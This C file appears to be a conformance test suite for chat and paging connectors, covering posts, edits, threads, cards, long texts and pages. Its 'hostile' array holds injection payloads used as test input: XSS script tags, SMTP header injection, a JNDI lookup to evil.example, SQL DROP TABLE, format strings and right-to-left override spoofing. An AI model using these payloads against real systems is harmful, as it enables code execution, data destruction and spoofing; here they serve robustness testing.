/* Messages: posted, edited, in threads, as cards, long, hostile, to one person. */
#include <stdio.h>
#include <string.h>

#include <tocsin/connector.h>

#include "base/json.h"
#include "base/mem.h"
#include "conformance/suite.h"
#include "conformance/tiny_png.h"

#define LONG 12000 /* bytes of a long text */

static cJSON *post_body(const struct suite *suite, const char *text)
{
    return body_of("channel", suite->wish->channel, "text", text, NULL);
}

static void post(struct suite *suite)
{
    CLEANUP_ACT struct act act = act_make(suite, "post", post_body(suite, suite_text(suite, "a **post**")));
    if (act_do(suite, &act, true))
        snprintf(suite->posted, sizeof(suite->posted), "%s", act.outcome->remote_id);
}

/* Posts something to work on. */
static bool post_first(struct suite *suite, const char *what, struct act *ret)
{
    *ret = act_make(suite, "post", post_body(suite, suite_text(suite, what)));
    return act_do(suite, ret, true);
}

static void edit(struct suite *suite)
{
    CLEANUP_ACT struct act first = {0};
    if (!post_first(suite, "not yet edited", &first))
        return;
    cJSON *body = post_body(suite, suite_text(suite, "edited"));
    cJSON_AddStringToObject(body, "message", first.outcome->remote_id);
    CLEANUP_ACT struct act act = act_make(suite, "edit", body);
    act_do(suite, &act, false);
}

/* Deleted, or scrolled away: nobody needs to decide anything. */
static void edit_gone(struct suite *suite)
{
    cJSON *body = post_body(suite, suite_text(suite, "edited, though it is gone"));
    cJSON_AddStringToObject(body, "message", "1000000000.000100");
    CLEANUP_ACT struct act act = act_make(suite, "edit", body);
    if (act_settle(suite, &act) && act.outcome->code != TOCSIN_DONE)
        suite_fail(suite, "expected DONE for the edit of a message that does not exist, but %s came",
                   act_came(&act));
}

/* Twice: the second time it is gone, which is what was asked for. */
static void delete_twice(struct suite *suite)
{
    CLEANUP_ACT struct act first = {0};
    if (!post_first(suite, "soon deleted", &first))
        return;
    for (int i = 0; i < 2; i++) {
        CLEANUP_ACT struct act act =
            act_make(suite, "delete",
                     body_of("channel", suite->wish->channel, "message", first.outcome->remote_id, NULL));
        act_do(suite, &act, false);
    }
}

static void thread(struct suite *suite)
{
    CLEANUP_ACT struct act first = {0};
    if (!post_first(suite, "a thread", &first))
        return;
    cJSON *body = post_body(suite, suite_text(suite, "an answer in the thread"));
    cJSON_AddStringToObject(body, "thread", first.outcome->remote_id);
    CLEANUP_ACT struct act act = act_make(suite, "post", body);
    act_do(suite, &act, true);
}

/* ---- cards ---- */

static void add_field(cJSON *fields, const char *name, const char *value)
{
    cJSON_AddItemToArray(fields, body_of("name", name, "value", value, NULL));
}

static void add_button(cJSON *buttons, const char *label, const char *command, const char *style, bool asks)
{
    cJSON *button = body_of("label", label, "command", command, "style", style, NULL);
    if (asks)
        cJSON_AddTrueToObject(button, "asks");
    cJSON_AddItemToArray(buttons, button);
}

static cJSON *card_body(const struct suite *suite, const char *title, const char *tone, const char *text)
{
    cJSON *body = body_of("channel", suite->wish->channel, NULL);
    cJSON *card = body_of("title", title, "tone", tone, "text", text, "footer", "declared by Ana", NULL);
    cJSON *fields = cJSON_AddArrayToObject(card, "fields"), *buttons = cJSON_AddArrayToObject(card, "buttons");
    add_field(fields, "status", "investigating");
    add_field(fields, "lead", "nobody");
    if (suite->can & TOCSIN_CAN_BUTTONS) {
        add_button(buttons, "I lead", "INC-1 lead me @~s1795446382123", "primary", false);
        add_button(buttons, "Pause", "INC-1 pause @~s1795446382123", "", true);
        add_button(buttons, "Close", "INC-1 close @~s1795446382123", "danger", false);
    }
    cJSON_AddItemToObject(body, "card", card);
    return body;
}

/* One that changes its tone and, where it can be edited, stays where it is. */
static void card(struct suite *suite)
{
    static const char *const tones[] = {"warn", "ok", "info", "quiet"};
    CLEANUP_ACT struct act first =
        act_make(suite, "post", card_body(suite, suite_text(suite, "alarm"), "alarm", "Orders **fail**."));
    bool edits = suite->can & TOCSIN_CAN_EDIT;
    if (!act_do(suite, &first, true))
        return;
    for (size_t i = 0; i < ARRAY_SIZE(tones); i++) {
        cJSON *body = card_body(suite, suite_text(suite, tones[i]), tones[i], "Orders **fail** since 9:00.");
        cJSON_AddStringToObject(body, "message", edits ? first.outcome->remote_id : "");
        CLEANUP_ACT struct act next = act_make(suite, edits ? "edit" : "post", body);
        act_do(suite, &next, !edits);
    }
}

/* ---- what is hard to show ---- */

static char *long_text(const char *begin)
{
    struct str text = {0};
    str_addf(&text, "%s\n\n", begin);
    for (int i = 0; text.len < LONG; i++)
        str_addf(&text, "%d. Zürich, 東京, 🙂: a line of a long text, with *stars* and `code`.\n", i);
    return str_take(&text);
}

static void long_message(struct suite *suite)
{
    CLEANUP_FREE char *text = long_text(suite_text(suite, "a long text"));
    CLEANUP_ACT struct act act = act_make(suite, "post", post_body(suite, text));
    if (!act_do(suite, &act, true) || !(suite->can & TOCSIN_CAN_EDIT))
        return;
    CLEANUP_FREE char *longer = long_text(suite_text(suite, "a long text in a card"));
    CLEANUP_ACT struct act big =
        act_make(suite, "post", card_body(suite, "A long text in a card", "info", longer));
    act_do(suite, &big, true);
}

/* Markup of several platforms, ends of mails and pages, marks of formats, invisible and turned letters. */
static const char *const hostile[] = {
    "<!channel> <!here> <@U012AB3CD> @everyone @all <https://evil.example|https://good.example>",
    "</div><script>alert(1)</script> &lt;b&gt; &amp; <img src=x onerror=alert(1)>",
    "line\r\n.\r\nQUIT\r\nBcc: eve@evil.example\r\n\r\n--boundary--",
    "*_~`[](javascript:alert(1)) ![x](http://evil.example/x.png) ```unclosed",
    "%s%n%d {{7*7}} ${jndi:ldap://evil.example} '; DROP TABLE incidents; --",
    "\u202egnp.exe\u202c \u200b\u200d \ufeff zero width, a\u0301\u0301\u0301 combined",
    "\\u0000 \x1b[31mred\x1b[0m \x07 tab\there",
    "#### heading\n> quote\n1. list\n---\n| a | b |\n|---|---|",
};

static void hostile_text(struct suite *suite)
{
    for (size_t i = 0; i < ARRAY_SIZE(hostile) && !suite_failed(suite); i++) {
        CLEANUP_FREE char *text = xasprintf("%s %s", suite_text(suite, "hostile:"), hostile[i]);
        CLEANUP_ACT struct act act = act_make(suite, "post", post_body(suite, text));
        act_do(suite, &act, true);
    }
}

/* In a card everything but its text is plain. */
static void hostile_card(struct suite *suite)
{
    for (size_t i = 0; i < ARRAY_SIZE(hostile) && !suite_failed(suite); i++) {
        cJSON *body = card_body(suite, suite_text(suite, hostile[i]), "warn", hostile[i]);
        cJSON *shown = cJSON_GetObjectItemCaseSensitive(body, "card");
        add_field(cJSON_GetObjectItemCaseSensitive(shown, "fields"), hostile[i], hostile[i]);
        if (suite->can & TOCSIN_CAN_BUTTONS)
            add_button(cJSON_GetObjectItemCaseSensitive(shown, "buttons"), hostile[i], hostile[i], "", false);
        CLEANUP_ACT struct act act = act_make(suite, "post", body);
        act_do(suite, &act, true);
    }
}

/* Whatever its words are, and also where it is none: then they are shown. */
static void picture(struct suite *suite)
{
    static const char *const pngs[] = {TINY_PNG, "bm8gcGljdHVyZQ=="};
    for (size_t i = 0; i < ARRAY_SIZE(hostile) && !suite_failed(suite); i++) {
        cJSON *body = card_body(suite, suite_text(suite, "a picture"), "info", "Below it is a *text*.");
        cJSON *shown = body_of("png", pngs[i % 2], "alt", hostile[i], NULL);
        cJSON_AddNumberToObject(shown, "width", 8);
        cJSON_AddNumberToObject(shown, "height", 8);
        cJSON_AddItemToObject(cJSON_GetObjectItemCaseSensitive(body, "card"), "picture", shown);
        CLEANUP_ACT struct act act = act_make(suite, "post", body);
        act_do(suite, &act, true);
    }
}

/* ---- one person ---- */

static void direct(struct suite *suite)
{
    cJSON *body = post_body(suite, suite_text(suite, "to one person"));
    cJSON_AddStringToObject(body, "to", suite->wish->user);
    cJSON_AddTrueToObject(body, "direct");
    CLEANUP_ACT struct act act = act_make(suite, "post", body);
    act_do(suite, &act, false);
}

static void page(struct suite *suite)
{
    CLEANUP_ACT struct act act =
        act_make(suite, "page", body_of("user", suite->wish->user, "text", suite_text(suite, "a page"), NULL));
    if (!act_do(suite, &act, true) || !(suite->can & TOCSIN_CAN_EDIT_PAGE))
        return;
    CLEANUP_ACT struct act changed =
        act_make(suite, "edit",
                 body_of("user", suite->wish->user, "message", act.outcome->remote_id, "text",
                         suite_text(suite, "the page was accepted"), NULL));
    act_do(suite, &changed, false);
}

/* Twice, and one that is not there: nobody needs to decide anything. */
static void end_page(struct suite *suite, const char *id)
{
    for (int i = 0; i < 2; i++) {
        CLEANUP_ACT struct act act =
            act_make(suite, "page.end",
                     body_of("user", suite->wish->user, "message", id, "text", "Acknowledged by Bo", NULL));
        act_do(suite, &act, false);
    }
}

/* The words are hostile, too. */
static void page_and_end(struct suite *suite, const char *what, const char *code, bool call)
{
    for (size_t i = 0; i < ARRAY_SIZE(hostile) && !suite_failed(suite); i++) {
        CLEANUP_FREE char *title = xasprintf("%s %s", suite_text(suite, what), hostile[i]);
        cJSON *body = card_body(suite, title, "alarm", hostile[i]);
        cJSON_AddStringToObject(body, "user", suite->wish->user);
        cJSON_AddStringToObject(body, "code", code);
        if (call)
            cJSON_AddTrueToObject(body, "call");
        CLEANUP_ACT struct act act = act_make(suite, "page", body);
        if (act_do(suite, &act, true))
            end_page(suite, act.outcome->remote_id);
    }
}

static void page_ended(struct suite *suite)
{
    page_and_end(suite, "somebody else has it:", "1a", false);
    end_page(suite, "1000000000.000100");
}

static void page_call(struct suite *suite)
{
    page_and_end(suite, "a call:", "1b", true);
}

static const struct check checks[] = {
    {"post", TOCSIN_CAN_POST, NEEDS_CHANNEL, post},
    {"edit", TOCSIN_CAN_POST | TOCSIN_CAN_EDIT, NEEDS_CHANNEL, edit},
    {"edit: a message that is gone", TOCSIN_CAN_POST | TOCSIN_CAN_EDIT, NEEDS_CHANNEL, edit_gone},
    {"delete", TOCSIN_CAN_POST | TOCSIN_CAN_DELETE, NEEDS_CHANNEL, delete_twice},
    {"thread", TOCSIN_CAN_POST | TOCSIN_CAN_THREAD, NEEDS_CHANNEL, thread},
    {"card", TOCSIN_CAN_POST, NEEDS_CHANNEL, card},
    {"long text", TOCSIN_CAN_POST, NEEDS_CHANNEL, long_message},
    {"hostile text", TOCSIN_CAN_POST, NEEDS_CHANNEL, hostile_text},
    {"hostile card", TOCSIN_CAN_POST, NEEDS_CHANNEL, hostile_card},
    {"picture", TOCSIN_CAN_POST | TOCSIN_CAN_PICTURES, NEEDS_CHANNEL, picture},
    {"direct talk", TOCSIN_CAN_POST, NEEDS_CHANNEL | NEEDS_USER, direct},
    {"page", TOCSIN_CAN_PAGE, NEEDS_USER, page},
    {"page: ended", TOCSIN_CAN_PAGE | TOCSIN_CAN_RECEIPTS, NEEDS_USER, page_ended},
    {"page: a call", TOCSIN_CAN_PAGE | TOCSIN_CAN_RECEIPTS | TOCSIN_CAN_CALL, NEEDS_USER, page_call},
};
const struct check_list say_checks = {checks, ARRAY_SIZE(checks)};
